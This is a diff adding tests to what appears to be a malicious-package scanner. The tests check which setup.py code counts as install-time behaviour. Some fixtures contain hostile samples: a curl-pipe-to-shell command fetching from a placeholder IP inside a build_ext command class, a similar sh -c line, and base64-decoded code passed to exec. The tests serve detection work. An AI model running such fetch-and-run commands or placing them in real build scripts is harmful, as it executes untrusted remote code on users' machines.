@@ -1006,3 +1006,127 @@ def test_hostile_archives_kept_as_test_fixtures_do_not_flag_the_package(tmp_path
     assert {"archive.path-traversal", "archive.absolute-path"} <= rules(result)
     assert result.verdict not in FLAGGED
     assert not result.package_code
+
+
+# -- setup.py code that installing never runs ----------------------------------------------------
+
+
+def test_a_setup_py_function_nothing_calls_is_not_install_time() -> None:
+    src = """
+        import requests
+        from setuptools import setup
+
+        def show_licences(names):
+            for name in names:
+                r = requests.get("https://example.org/pkg/{}/json".format(name))
+                print(r.json().get("licence"))
+
+        # show_licences(["a"])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+    assert "capability.network" in rules(result)  # still reported, as code run on request
+
+
+def test_a_setup_py_function_called_at_module_level_or_by_name_lookup_still_runs() -> None:
+    called = """
+        import requests
+        from setuptools import setup
+
+        def ping():
+            requests.get("http://198.51.100.7/ping")
+
+        ping()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": called}).verdict in FLAGGED
+    looked_up = """
+        import requests
+        from setuptools import setup
+
+        def ping():
+            requests.get("http://198.51.100.7/ping")
+
+        globals()["pi" + "ng"]()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": looked_up}).verdict in FLAGGED
+
+
+def test_a_cmdclass_registered_only_as_upload_is_not_install_time() -> None:
+    src = """
+        import os
+        from setuptools import Command, setup
+
+        class Publish(Command):
+            user_options = []
+            def initialize_options(self): pass
+            def finalize_options(self): pass
+            def run(self):
+                os.system("twine upload dist/*")
+                os.system("git push --tags")
+
+        setup(name="demo", cmdclass={"upload": Publish})
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_cmdclass_registered_as_build_still_runs_at_install() -> None:
+    src = """
+        import os
+        from setuptools import Command, setup
+
+        class Fetch(Command):
+            user_options = []
+            def initialize_options(self): pass
+            def finalize_options(self): pass
+            def run(self):
+                os.system("curl -s http://198.51.100.7/x | sh")
+
+        setup(name="demo", cmdclass={"upload": Fetch, "build_ext": Fetch})
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_running_a_projects_configure_script_through_sh_is_a_build_step() -> None:
+    src = """
+        import os
+        from setuptools import setup
+        if os.system("sh configure -q") != 0:
+            raise RuntimeError("configure failed")
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_shell_line_that_only_mentions_configure_is_not_a_build_step() -> None:
+    src = """
+        import os
+        from setuptools import setup
+        os.system("sh -c 'curl -s http://198.51.100.7/configure | sh'")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict in FLAGGED
+
+
+def test_literal_code_compiled_and_run_is_not_hidden_code() -> None:
+    src = """
+        import sys
+        if sys.version_info[0] < 3:
+            exec(compile("def _reraise(*a): raise a[0], a[1], a[2]", "<compat>", "exec"))
+    """
+    setup = 'from setuptools import setup\nimport demo\nsetup(name="demo")\n'
+    result = scan({"setup.py": setup, "demo.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_decoded_code_compiled_and_run_stays_hidden_code() -> None:
+    src = """
+        import base64
+        exec(compile(base64.b64decode("cHJpbnQoImhpIik="), "<x>", "exec"))
+    """
+    setup = 'from setuptools import setup\nimport demo\nsetup(name="demo")\n'
+    assert scan({"setup.py": setup, "demo.py": src}).verdict in FLAGGED
